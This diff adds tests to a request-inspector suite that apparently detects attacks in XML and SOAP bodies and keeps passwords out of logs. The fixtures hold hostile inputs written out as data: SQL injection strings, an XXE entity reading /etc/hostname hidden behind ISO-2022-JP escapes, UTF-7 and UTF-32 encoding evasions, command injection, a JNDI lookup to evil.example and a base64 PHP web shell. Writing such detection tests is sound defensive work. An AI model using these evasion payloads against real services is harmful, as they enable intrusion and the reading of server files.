@@ -174,6 +174,13 @@ describe('password fields', () => {
     // Past the values read, a password may be anywhere: the whole document is not recorded either (a tenth review).
     const many = `<r>${'<v>1</v>'.repeat(1100)}<password>$(HPcF$ajjhm1B)</password></r>`;
     assert.ok(!leaks(inspector.inspect(post('/soap', 'text/xml', many)), 'HPcF'));
+    // 65 levels deep a password keeps its own name in its path; a SOAP login sent as text/plain is read as XML.
+    const deepPw = `${'<w>'.repeat(70)}<password>Xy' OR 1=1--Secret9</password>${'</w>'.repeat(70)}`;
+    assert.ok(!leaks(inspector.inspect(post('/soap', 'text/xml', deepPw)), 'Secret9'));
+    const plain = `<?xml version="1.0"?><Envelope><Body><Login><User>a</User><Password>Xy' OR 1=1--Secret9</Password></Login></Body></Envelope>`;
+    assert.ok(!leaks(inspector.inspect(post('/soap', 'text/plain', plain)), 'Secret9'));
+    // Nor through a mixed-content parent that holds it.
+    assert.ok(!leaks(inspector.inspect(post('/soap', 'text/xml', '<Login>user jane<Password>$(HPcF$ajjhm1B)</Password></Login>')), 'HPcF'));
     // A data: URL in an XML password is not decoded into a copy that could be recorded.
     const data = '<login><user>bob</user><password>data:;base64,PD9waHAgc3lzdGVtKCRfR0VUWzBdKTs/Pg==</password></login>';
     assert.ok(!leaks(inspector.inspect(post('/soap', 'text/xml', data)), '<?php'));
@@ -195,11 +202,20 @@ describe('password fields', () => {
     assert.equal(top(post('/x', 'application/xml', '<r><host>127.0.0.1;<![CDATA[id]]></host></r>')), RANK.critical);
     assert.equal(top(post('/x', 'application/xml', '<r><name>${jn<!---->di:ldap://evil.example/a}</name></r>')), RANK.critical);
     assert.equal(top(post('/x', 'application/xml', '<r><host>;&#00000000000105;d</host></r>')), RANK.critical);
+    // UTF-32 without a declaration or BOM: libxml2 knows it by its first bytes.
+    const utf32 = Buffer.from(
+      Array.from("<r><q>1' UNION SELECT password FROM users--</q></r>").flatMap((c) => [c.charCodeAt(0), 0, 0, 0]),
+    );
+    const found32 = inspector.inspect({ ...post('/x', 'application/xml', ''), body: utf32 });
+    assert.ok(found32.some((f) => f.ruleId === 'protocol.xml-encoding'), JSON.stringify(found32));
     // An encoding this reading cannot follow hides the whole document, padded or not, whatever the Content-Type.
     for (const [type, xml] of [
       ['application/xml', '<?xml version="1.0" encoding="UTF-7"?><r><host>127.0.0.1+ADs-id</host></r>'],
       ['application/xml', `<?xml version="1.0"${' '.repeat(300)}encoding${' '.repeat(20)}="UTF-7"?><r>+ADsAaQBk-</r>`],
       ['text/plain', '<?xml version="1.0" encoding="utf-7"?><r>+ADsAaQBk-</r>'],
+      // 7-bit encodings whose escapes a parser drops (an eleventh review: ISO-2022-JP hid an XXE).
+      ['application/xml', `<?xml version="1.0" encoding="ISO-2022-JP"?>${'<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/hostname">]><r>&x;</r>'.split('').join('\x1b(B')}`],
+      ['application/xml', '<?xml version="1.0" encoding="HZ-GB-2312"?><r>x</r>'],
     ]) {
       const found = inspector.inspect(post('/x', type!, xml!));
       assert.ok(found.some((f) => f.ruleId === 'protocol.xml-encoding' && f.severity === 'critical'), `${type} ${JSON.stringify(found)}`);
